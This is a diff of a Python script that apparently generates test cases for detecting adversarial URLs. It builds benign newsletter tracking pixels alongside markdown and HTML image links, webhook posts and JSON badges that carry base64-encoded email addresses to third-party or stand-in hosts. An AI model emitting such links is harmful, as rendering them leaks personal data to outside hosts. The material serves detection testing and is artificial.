@@ -105,7 +105,8 @@ OK_C = []
 for i in range(8):
     who = mail()
     enc = b64(who) if i % 2 == 0 else b64u(who)
-    host = ['mail.quillon.io', 'links.news.vestry-foods.co.uk', 'click.peltier-energy.fr', 'email.osgood-health.org'][i % 4]
+    host = (['mail.quillon.io', 'links.news.vestry-foods.co.uk', 'click.peltier-energy.fr', 'email.osgood-health.org'] if i < 4
+            else ['cdn.quillon.io', 'px.vestry-foods.co.uk', 'static.peltier-energy.fr', 'img.osgood-health.org'])[i % 4]
     if i < 4:
         OK_C.append(f'<p>Thanks for reading this month\'s digest.</p><img src="https://{host}/o/open.png?rcpt={enc}&m=may26" width="1" height="1" alt="">')
     else:
@@ -122,6 +123,16 @@ for i in range(8):
         URL_C.append(f'validate ok; posted https://webhook.site/{corpus.rs("0123456789abcdef", 8)}-0f1e-4a2b-9c3d-{corpus.rs("0123456789abcdef", 12)}?who={v}')
     else:
         URL_C.append(f'<img src="https://cdn-stats-{num(10,99)}.net/px.gif?d={v}" width="1" height="1">')
+# One address alone in base64 on a pixel of a third party's host, in a record that never names that address: not the
+# text's own recipient, nor a mail's sending host.
+for i in range(4):
+    v = b64(mail()) if i % 2 == 0 else b64u(mail())
+    URL_C.append([
+        f'Case notes\nClient: {person()}\nFollow-up survey: ![survey](https://survey.fernhollow-relay.example/s/{num(1,9)}.png?u={v})',
+        f'ticket_id,remark\nT-{num(10000,99999)},"see ![x](https://assets.kelpmark-drop.example/p.gif?r={v})"',
+        f'Intake summary for {person()}: documents received, appointment booked.\n<img src="https://pix.tallowgate.example/i.png?k={v}" width="1" height="1">',
+        f'{{"note": "thanks for the call", "badge": "https://badge.corrimoor-stats.example/b.png?id={v}"}}',
+    ][i])
 corpus.add('url171c', ['adversarial_url'], URL_C, source='web', wrap=False)
 
 corpus.write('cases-171')
